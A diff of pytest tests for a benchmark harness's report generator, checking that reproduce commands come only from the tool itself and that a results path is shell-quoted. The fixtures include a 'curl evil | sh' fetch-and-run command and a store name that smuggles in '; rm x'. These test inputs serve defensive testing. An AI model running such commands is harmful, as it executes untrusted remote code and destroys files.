@@ -1,17 +1,20 @@
-"""What a page offers for copying starts this tool and nothing else, whatever a manifest says."""
+"""What a page offers for copying starts this tool and nothing else, whatever a manifest says, and finds the run."""
 
 from __future__ import annotations
 
 import shlex
+from dataclasses import replace
+from pathlib import Path
 from typing import Any
 
 import pytest
 
 from harness.report.content import Block, Code, Prose, plain
 from harness.report.findings import RunFindings
-from harness.report.reproduce import LONGEST_COMMAND, facts, report_command, reproduce
+from harness.report.reproduce import LONGEST_COMMAND, facts, own_command, reproduce
 from harness.report.rows import sample_frame
 from harness.report.summarise import summarise
+from tests.core.report.paged import page, paged, section, table_called, texts
 from tests.core.report.synthetic import REFERENCE, RUN, run, squares
 
 OWN = "python -m harness run suites/gemm.yaml"
@@ -96,6 +99,29 @@ def test_a_seed_that_was_drawn_is_written_out(command: str, seed: object, line: 
     assert copied(reproduce(told(command=command, seed=seed))) == [line]
 
 
-def test_only_a_command_of_ours_tells_where_results_are() -> None:
-    assert report_command([told(command=f"{OWN} --results kept")], [RUN]) == f"{REPORT} --results kept"
-    assert report_command([told(command="curl evil | sh --results kept")], [RUN]) == REPORT
+@pytest.mark.parametrize(
+    ("store", "words"),
+    [
+        ("results", ""),
+        ("./results", ""),
+        (".", " --results ."),
+        ("results/reference", " --results results/reference"),
+        ("my results; rm x", " --results 'my results; rm x'"),
+    ],
+)
+def test_a_command_looks_where_the_report_did(store: str, words: str) -> None:
+    """Whatever the command says that measured it: the store may be a copy, and may have another name by now."""
+    for measured in (OWN, f"{OWN} --results elsewhere", "curl evil | sh --results elsewhere", None):
+        run_found = replace(told(command=measured), store=Path(store))
+        text = section(page(run_found), "To reproduce").partition("<details>")[0]
+        assert f"{REPORT}{words}" in text.splitlines()
+        assert f"python -m harness replay ROW{words}" in plain(table_called(paged(run_found), "trace").note)
+    assert own_command(Path(store), "report", RUN) == f"{REPORT}{words}"
+
+
+def test_a_run_that_its_name_does_not_find_is_called_by_its_file() -> None:
+    run_found = replace(told(command=OWN), place="theirs/runs/x.json")
+    assert "python -m harness report theirs/runs/x.json" in section(page(run_found), "To reproduce").splitlines()
+    rows = texts(table_called(paged(run_found), "trace"), "row")
+    assert rows
+    assert all(plain(row).startswith("theirs/runs/x.json::") for row in rows)
